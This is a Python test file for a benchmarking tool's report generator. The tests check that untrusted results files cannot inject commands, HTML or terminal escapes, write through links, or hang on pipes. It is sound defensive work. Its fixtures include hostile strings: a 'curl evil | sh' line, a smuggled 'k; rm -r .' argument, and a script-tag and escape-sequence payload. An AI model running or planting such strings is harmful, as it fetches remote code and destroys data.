"""Plans and results of somebody else: they run no code, write through no link, and fill no memory."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING

import pytest
import zstandard

from bench.engine.folder import ResultsFolder
from bench.engine.record import ResultFile, as_line
from bench.histories import calls_of
from bench.lint import Subject, verdict
from bench.report import drawing
from bench.report.drawing import redraw
from bench.report.facts import Facts
from bench.report.markdown import reproduce
from segmented.errors import InvalidInput
from tests.support.bench.records import end_line, run, session_line
from tests.support.command_line import ran

if TYPE_CHECKING:
    from pathlib import Path

FIELDS = ("asked", "done", "sold", "sold_out", "failed")
MARKUP = "\x1b]0;x\x07<script>alert(1)</script>"
SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"


@pytest.fixture
def without_figures(monkeypatch: pytest.MonkeyPatch) -> None:
    """Draw none: they take seconds."""
    monkeypatch.setattr(drawing, "FIGURES", ())


def test_no_text_of_a_results_file_becomes_a_line_to_run() -> None:
    session = session_line()
    environment = {**session.environment, "code": {"commit": SHELL, SHELL: SHELL}, SHELL: SHELL}
    foreign = session.model_copy(update={"environment": environment, "plan_sha256": SHELL, "sweeps": ("k; rm -r .",)})
    written = reproduce(Facts(ResultFile(session=foreign, runs=(run(),), end=end_line(1))))
    assert written.count("```") == 4
    assert [line for line in written.splitlines() if line.startswith("$ ")] == [
        "$ segmented bench granularity --sweep 'k; rm -r .' --plan plan.toml --report again",
        "$ segmented bench compare . again",
        "$ segmented bench report .",
    ]
    assert "Code: commit `-`. Plan: SHA-256 `-`, beside this file." in written


def test_a_report_is_not_written_through_a_link(tmp_path: Path) -> None:
    for name in ("report.html", "REPRODUCE.md", "SHA256SUMS", "figures"):
        folder, victim = tmp_path / f"session of {name}", tmp_path / "victim"
        folder.mkdir()
        victim.write_text("precious")
        (folder / name).symlink_to(victim)
        with pytest.raises(InvalidInput) as refused:
            redraw(folder, lambda *_: None)
        sentence = f"{folder} has a link, {folder / name}: remove it, since results are not written through links"
        assert str(refused.value) == sentence
        assert victim.read_text() == "precious"
        with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
            pass
        assert str(refused.value) == f"--report {sentence}"


def test_a_history_that_unpacks_to_more_than_allowed_is_refused_in_the_middle(tmp_path: Path) -> None:
    line = json.dumps(dict.fromkeys(FIELDS, 0.5)).encode() + b"\n"
    packed = zstandard.ZstdCompressor().compress(line * 60_000)
    (tmp_path / "history.zst").write_bytes(packed)
    assert len(packed) < 10_000
    kept = run().model_copy(update={"history": "history.zst"})
    with pytest.raises(InvalidInput, match=r"history\.zst, line [0-9]+: the file is larger than 1 MiB$"):
        calls_of(tmp_path, kept, FIELDS, size_max=1)
    calls = calls_of(tmp_path, kept, FIELDS, size_max=8)
    assert calls is not None
    assert len(calls["asked"]) == 60_000


def test_a_line_of_a_history_without_an_end_is_refused(tmp_path: Path) -> None:
    (tmp_path / "history.zst").write_bytes(zstandard.ZstdCompressor().compress(bytes(50_000_000)))
    kept = run().model_copy(update={"history": "history.zst"})
    with pytest.raises(InvalidInput, match=r"line 1: it is longer than 65,536 bytes: is this a file of calls\?$"):
        calls_of(tmp_path, kept, FIELDS)


def test_a_pipe_in_a_results_folder_is_refused_and_nobody_waits_for_it(tmp_path: Path) -> None:
    for name in ("results.jsonl", "report.html", "histories"):
        folder = tmp_path / f"session of {name}"
        folder.mkdir()
        os.mkfifo(folder / name)
        sentence = f"{folder} has {folder / name}, which is neither a plain file nor a folder: remove it"
        with pytest.raises(InvalidInput) as refused:
            redraw(folder, lambda *_: None)
        assert str(refused.value) == sentence
        with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
            pass
        assert str(refused.value) == f"--report {sentence}"


def test_no_command_waits_for_a_pipe_in_place_of_a_file(tmp_path: Path) -> None:
    pipe = tmp_path / "results.jsonl"
    os.mkfifo(pipe)
    for command in (("lint",), ("compare", str(pipe)), ("granularity", "--plan")):
        done = ran("bench", *command, str(pipe), url=None)
        sentence = f"segmented: {pipe} cannot be read: it is not a plain file"
        assert (done.returncode, done.stderr.splitlines()[-1]) == (2, sentence)


def test_a_pipe_in_place_of_a_history_is_no_history(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "history.zst")
    kept = run().model_copy(update={"history": "history.zst", "history_sha256": "0" * 64})
    assert calls_of(tmp_path, kept, FIELDS, size_max=1) is None
    told = verdict("histories", Subject(ResultFile(session=session_line(), runs=(kept,), end=end_line(1)), tmp_path))
    assert told.evidence == f"no history of a run is beside the results: {kept.cell_id}"


@pytest.mark.usefixtures("without_figures")
def test_a_report_and_a_session_write_through_no_hard_link(tmp_path: Path) -> None:
    folder, victim = tmp_path / "session", tmp_path / "victim"
    folder.mkdir()
    victim.write_text("precious")
    (folder / "plan.toml").hardlink_to(victim)
    (folder / "report.html").hardlink_to(victim)
    (folder / "results.jsonl").write_text(
        as_line(session_line()) + as_line(run()) + as_line(end_line(1)), encoding="utf-8"
    )
    redraw(folder, lambda *_: None)
    assert "<html" in (folder / "report.html").read_text(encoding="utf-8")
    with ResultsFolder(folder) as held:
        held.begin(session_line(), "# a plan")
    assert (folder / "plan.toml").read_text(encoding="utf-8") == "# a plan"
    (folder / "results.jsonl").unlink()
    (folder / "results.jsonl").hardlink_to(victim)
    victim.write_text(as_line(session_line()), encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"results\.jsonl has a second name elsewhere, a hard link: copy it"):
        ResultsFolder(folder)
    assert victim.read_text(encoding="utf-8") == as_line(session_line())


@pytest.mark.usefixtures("without_figures")
def test_no_text_of_a_results_file_becomes_html_or_controls_a_terminal(tmp_path: Path) -> None:
    session = session_line()
    environment = {**session.environment, MARKUP: MARKUP, "code": {"commit": MARKUP}, "placement": MARKUP}
    foreign = session.model_copy(update={"environment": environment, "plan_sha256": MARKUP})
    lines = [as_line(foreign), as_line(run()), as_line(end_line(1))]
    (tmp_path / "results.jsonl").write_text("".join(lines), encoding="utf-8")
    redraw(tmp_path, lambda *_: None)
    for name in ("report.html", "REPRODUCE.md"):
        written = (tmp_path / name).read_text(encoding="utf-8")
        assert "alert(1)" in written
        assert "<script>alert" not in written
        assert "\x1b" not in written
